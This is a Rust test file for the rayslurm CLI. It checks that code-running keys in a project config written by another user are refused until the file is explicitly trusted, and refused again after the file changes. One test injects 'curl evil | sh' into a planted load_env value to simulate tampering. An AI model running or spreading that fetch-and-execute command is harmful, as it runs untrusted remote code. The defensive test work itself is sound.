//! CLI tests of the project file another user could have written (`./rayslurm.toml` in a
//! group's 2775 directory, owned by uid 65534, mode 0664): its site keys are used with a
//! notice; its keys that run code are refused (exit 2, nothing written, nothing submitted)
//! until `rayslurm trust` accepts the file as it is, and again once it changed.
//!
//! Tests run as root, which may `chown` a file to another uid; the owner checks compare with
//! the effective uid, so root is "the user" here like any other.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::harness::{rayslurm, shim, text, transcript};

const OTHER_UID: u32 = 65534;

/// A shared project directory with a state directory of the user's own beside it.
struct Project {
    root: tempfile::TempDir,
}

impl Project {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        for dir in ["proj", "shims"] {
            std::fs::create_dir(root.path().join(dir)).unwrap();
        }
        set_mode(&root.path().join("proj"), 0o2775);
        // A submission would leave this marker: none may happen.
        shim(
            &root.path().join("shims"),
            "sbatch",
            &format!("touch {}/submitted; echo 4242", root.path().display()),
        );
        Self { root }
    }

    fn dir(&self) -> PathBuf {
        self.root.path().join("proj")
    }

    fn file(&self) -> PathBuf {
        self.dir().join("rayslurm.toml")
    }

    /// Writes the project file as another member of the group would.
    fn write_as_other(&self, content: &str) {
        std::fs::write(self.file(), content).unwrap();
        std::os::unix::fs::chown(self.file(), Some(OTHER_UID), None).unwrap();
        set_mode(&self.file(), 0o664);
    }

    fn rayslurm(&self, args: &[&str]) -> Output {
        rayslurm(args)
            .cwd(&self.dir())
            .shims(&self.root.path().join("shims"))
            .env("RAYSLURM_STATE_DIR", self.root.path().join("state"))
            .output()
    }

    fn launch(&self, dry_run: bool) -> Output {
        let mut args = vec!["launch", "--exp-name", "x", "--command", "true"];
        if dry_run {
            args.push("--dry-run");
        }
        self.rayslurm(&args)
    }

    /// Replaces the test's directory in output.
    fn filter(&self, text: &str) -> String {
        text.replace(&self.root.path().display().to_string(), "[ROOT]")
    }

    /// The names in the project directory besides the project file.
    fn written(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.dir())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != "rayslurm.toml")
            .collect();
        names.sort();
        names
    }

    fn submitted(&self) -> bool {
        self.root.path().join("submitted").exists()
    }
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

const GUARDED: &str =
    "[launch]\npartition = \"gpu\"\nload_env = \"touch /tmp/planted-by-other\"\nray_auth = false\n";

#[test]
fn site_keys_from_another_users_file_are_used_with_a_notice() {
    let p = Project::new();
    p.write_as_other("[launch]\npartition = \"gpu\"\naccount = \"proj1\"\ntime = \"1:00:00\"\n");
    let out = p.launch(true);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stdout.contains("#SBATCH --partition=gpu\n"), "{stdout}");
    assert!(stdout.contains("#SBATCH --account=proj1\n"), "{stdout}");
    assert_eq!(
        p.filter(stderr.lines().next().unwrap()),
        "note: using settings from `[ROOT]/proj/rayslurm.toml` (owned by uid 65534)"
    );
}

#[test]
fn keys_that_run_code_from_another_users_file_are_refused_and_nothing_is_submitted() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let out = p.launch(false);
    insta::assert_snapshot!(
        "refused_project_file",
        p.filter(&transcript(
            &["launch", "--exp-name", "x", "--command", "true"],
            &out
        ))
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(!p.submitted(), "sbatch ran");
    assert_eq!(p.written(), Vec::<String>::new());
}

#[test]
fn a_trusted_file_is_used_until_it_changes() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let file = p.file().display().to_string();
    let out = p.rayslurm(&["trust", &file]);
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("load_env, ray_auth will be used"),
        "{stderr}"
    );

    let out = p.launch(true);
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stdout.contains("touch /tmp/planted-by-other"), "{stdout}");

    // Another member adds a line: trusted no more.
    p.write_as_other(&GUARDED.replace("touch", "curl evil | sh; touch"));
    let out = p.launch(false);
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("changed since you trusted it"), "{stderr}");
    assert!(stderr.contains("uid 65534"), "{stderr}");
    assert!(!p.submitted(), "sbatch ran");

    // Trusted again, then revoked.
    assert_eq!(p.rayslurm(&["trust", &file]).status.code(), Some(0));
    assert_eq!(p.launch(true).status.code(), Some(0));
    let out = p.rayslurm(&["trust", "--list"]);
    let (stdout, _) = text(&out);
    assert!(stdout.starts_with(&format!("{file}\t")), "{stdout}");
    assert_eq!(
        p.rayslurm(&["trust", "--revoke", &file]).status.code(),
        Some(0)
    );
    assert_eq!(p.launch(true).status.code(), Some(2));
    assert_eq!(
        p.rayslurm(&["trust", "--revoke", &file]).status.code(),
        Some(2)
    );
}

/// The user's own file needs no trust where no one else can replace it, and needs it in a
/// group-writable directory, where any member may rename it away and put another in its place.
#[test]
fn the_users_own_file_needs_trust_only_where_others_can_replace_it() {
    for (file_mode, dir_mode, accepted) in [
        (0o644, 0o755, true),
        (0o600, 0o700, true),
        (0o644, 0o1777, true),
        (0o644, 0o2775, false),
        (0o664, 0o755, false),
    ] {
        let p = Project::new();
        std::fs::write(p.file(), GUARDED).unwrap();
        set_mode(&p.file(), file_mode);
        set_mode(&p.dir(), dir_mode);
        let out = p.launch(true);
        let (_, stderr) = text(&out);
        let case = format!("file {file_mode:o} dir {dir_mode:o}");
        assert_eq!(
            out.status.code(),
            Some(if accepted { 0 } else { 2 }),
            "{case}: {stderr}"
        );
        assert!(stderr.contains("rayslurm.toml"), "{case}: {stderr}");
    }
}

#[test]
fn trust_errors_name_the_file() {
    let p = Project::new();
    let out = p.rayslurm(&["trust", "missing.toml"]);
    insta::assert_snapshot!(
        "trust_missing_file",
        p.filter(&transcript(&["trust", "missing.toml"], &out))
    );
    p.write_as_other("[launch]\nparition = \"x\"\n");
    let out = p.rayslurm(&["trust", "rayslurm.toml"]);
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("parition"), "{stderr}");
    assert!(
        !p.root.path().join("state/trust").exists()
            || std::fs::read_dir(p.root.path().join("state/trust"))
                .unwrap()
                .next()
                .is_none()
    );
    let out = p.rayslurm(&["trust", "--revoke", "rayslurm.toml"]);
    insta::assert_snapshot!(
        "trust_revoke_untrusted",
        p.filter(&transcript(&["trust", "--revoke", "rayslurm.toml"], &out))
    );
}

/// A project file named by `RAYSLURM_CONFIG` is the user's choice: used whole, no notice.
#[test]
fn a_project_file_named_by_rayslurm_config_is_trusted() {
    let p = Project::new();
    p.write_as_other(GUARDED);
    let out = rayslurm([
        "launch",
        "--exp-name",
        "x",
        "--command",
        "true",
        "--dry-run",
    ])
    .cwd(&p.dir())
    .env("RAYSLURM_STATE_DIR", p.root.path().join("state"))
    .env("RAYSLURM_CONFIG", "./rayslurm.toml")
    .output();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stdout.contains("touch /tmp/planted-by-other"), "{stdout}");
    assert!(!stderr.contains("note: using settings"), "{stderr}");
}
